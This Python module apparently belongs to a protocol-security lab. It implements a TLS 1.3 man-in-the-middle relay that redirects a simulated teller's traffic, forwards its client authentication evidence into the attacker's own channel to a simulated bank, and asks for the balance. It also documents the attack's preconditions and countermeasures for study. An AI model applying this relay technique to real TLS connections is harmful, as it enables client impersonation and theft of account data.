"""`client-impersonation` and `same-pms-reencryption` in TLS 1.3: the teller's evidence forwarded to the bank.

There is no secret that one side alone chooses. So she ends the teller's channel with a certificate of her own, and
opens one to the bank with a client's certificate of her own. Whatever evidence the teller shows her she shows the bank,
in the handshake or in an authenticator; she has every key but those in the evidence. The prize is the bank's secret.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import msgspec

from trustlab import tls
from trustlab.attacks import client_impersonation, same_pms_reencryption
from trustlab.attacks.apps13 import THANKS, TowardsBank, TowardsTeller
from trustlab.attacks.middle import HTTPS
from trustlab.attacks.middle13 import BankLeg, Credentials, Middle, TellerLeg
from trustlab.attacks.programs import powers, rogue_identity, teller_of
from trustlab.passage.exchange import frame
from trustlab.passage.exported import answer, context_of, request
from trustlab.tls import authenticators

if TYPE_CHECKING:
    from collections.abc import Callable

    from trustlab.cloud import Guest
    from trustlab.passage import Design

STATEMENT = b"STATEMENT\n"
ATTACK = msgspec.structs.replace(
    client_impersonation.ATTACK,
    name="client-impersonation-tls13",
    needs=("owns the network between the VMs", "a CA that validates names across that network"),
    steps=(
        "ends the teller's channel, and opens one of her own to the bank",
        "forwards the evidence that the teller shows her, with a client's certificate of her own",
        "is the client now, and asks for the balance",
    ),
    why="Evidence that is shown in one channel may be shown in another.",
    source="Trusted Passages (2011); SEAT use cases",
    stopped_by="the channel in the client's evidence; and a client that proves itself only to whom it accepted",
    tls="1.3",
    program="forwarding13",
)
"""Against a teller that looks whom it talks to."""
LAX = msgspec.structs.replace(
    ATTACK,
    name="same-pms-reencryption-tls13",
    needs=same_pms_reencryption.ATTACK.needs,
    source="Trusted Passages (2011); RFC 7627, 1; RFC 9846, 7.1",
    stopped_by="the channel in the client's evidence: no two channels of hers have one secret",
    lax_client=True,
)
"""Against one that accepts whatever it is shown."""


def start(guest: Guest) -> None:
    """Sit between teller and bank."""
    tell = teller_of(guest, ATTACK)
    own = rogue_identity(guest, tell)
    powers(guest).redirect(guest.setting("victim"), HTTPS)
    guest.listen(HTTPS, lambda connection: Forwarding(guest, connection, tell, own=own))
    tell("forwarding", "waits for the teller, to show the bank what it shows her.")


class Forwarding(Middle):
    """Her two channels, joined by the teller's evidence."""

    def towards_bank(self, name: str, hello: tls.ClientHello) -> BankLeg:
        """Make the leg to the bank: it waits for the teller's evidence, and then asks for the balance."""
        application = AskingForBalance(self._guest.design)
        return ProvingLeg(self._guest, name, application, learned=self._stand, like=hello, identity=self._own)

    def towards_teller(self, bank: BankLeg, hello: tls.ClientHello, credentials: Credentials) -> TellerLeg:  # noqa: ARG002 - as the parent's
        """Make the leg to the teller: what the teller proves is for the bank."""
        application = Listening(self._guest.design, bank, self._tell, replay=False)
        return HeardLeg(
            self._guest,
            self._connection.name,
            application,
            credentials,
            evidence=bank.evidence,
            hello=bank.server_hello,
        )


class ProvingLeg(BankLeg):
    """The leg to the bank, whose own evidence is the teller's."""

    _wanted: tls.EvidenceWanted | None = None
    _has = b""

    def respond(self, asked: tls.Request) -> None:
        """Wait with the evidence that the bank wants."""
        if isinstance(asked, tls.EvidenceWanted):
            self._wanted = asked
            self._prove()
        else:
            super().respond(asked)

    def prove(self, evidence: bytes) -> None:
        """Show the bank what the teller showed."""
        if isinstance(self.application, AskingForBalance) and self.application.exported:
            self.application.prove(evidence)
        self._has = evidence
        self._prove()
        self.pump()

    def _prove(self) -> None:
        if self._wanted is not None and self._has:
            wanted, self._wanted = self._wanted, None
            self.connection.answer(wanted, self._has)


class HeardLeg(TellerLeg):
    """The leg to the teller, whose evidence goes to the bank."""

    def respond(self, asked: tls.Request) -> None:
        """Pass on what the teller proves."""
        super().respond(asked)
        if isinstance(asked, tls.EvidenceReceived) and isinstance(self.application, Listening):
            self.application.heard(asked.evidence)


class AskingForBalance(TowardsBank):
    """The application of the leg to the bank: proves with the teller's evidence, and asks for the balance."""

    def __init__(self, design: Design) -> None:
        super().__init__(design)
        self.exported = self._exported
        self.wanted = b""
        self.then: Callable[[], None] = lambda: None

    def connected(self) -> bytes:
        """Ask at once where the handshake has proved everything."""
        return b"" if self.exported else STATEMENT

    def received(self, data: bytes) -> bytes:
        """Keep what the bank says to herself."""
        return super().received(data) if self.exported else b""

    def asked(self, octets: bytes) -> None:
        """Keep the bank's request for an authenticator: the teller is to answer it."""
        self.wanted = octets
        self.then()

    def prove(self, evidence: bytes) -> None:
        """Make an authenticator for the bank around the teller's evidence, and ask for the balance."""
        connection = self.leg.connection
        if self.wanted and not connection.closed:
            connection.send(frame(answer(connection, self.wanted, evidence)) + STATEMENT)


class Listening(TowardsTeller):
    """The application of the leg to the teller: asks for its evidence with the bank's words."""

    _mine = b""

    def heard(self, evidence: bytes) -> None:
        """Forward the teller's evidence."""
        self._tell("forward", "shows the bank the teller's evidence, in a channel of her own.")
        if isinstance(self._bank, ProvingLeg):
            self._bank.prove(evidence)

    def connected(self) -> bytes:
        """Ask where evidence is asked for inside the channel, as soon as the bank has asked her."""
        towards = self._bank.towards
        if not self._left or not isinstance(towards, AskingForBalance):
            return b""
        towards.then = self._ask
        if towards.wanted:
            self._ask()
        return b""

    def _ask(self) -> None:
        """Ask for the teller's evidence over the very context that the bank asks for."""
        if isinstance(self._bank.towards, AskingForBalance) and not self.leg.connection.closed:
            self._mine = request(self.leg.connection, context_of(self._bank.towards.wanted))
            self.leg.connection.send(frame(self._mine))

    def received(self, data: bytes) -> bytes:
        """Answer the teller's request with the bank's evidence, and forward the teller's; thank for the rest."""
        if not self._left:
            return THANKS
        for octets in self._frames.feed(data, self._left):
            self._left -= 1
            if self._left:
                self._wanted(octets)
            else:
                self._take(octets)
        return b"" if self._left or not self._frames.rest else THANKS

    def _take(self, proved: bytes) -> None:
        """Take the evidence out of the teller's authenticator."""
        try:
            self.heard(authenticators.validate(self.leg.connection, self._mine, proved).evidence or b"")
        except tls.TlsError as error:
            self._tell("stuck", f"cannot go on: {error}")

    def closed(self, error: Exception | None) -> None:
        """Stay with the bank when the teller is gone."""
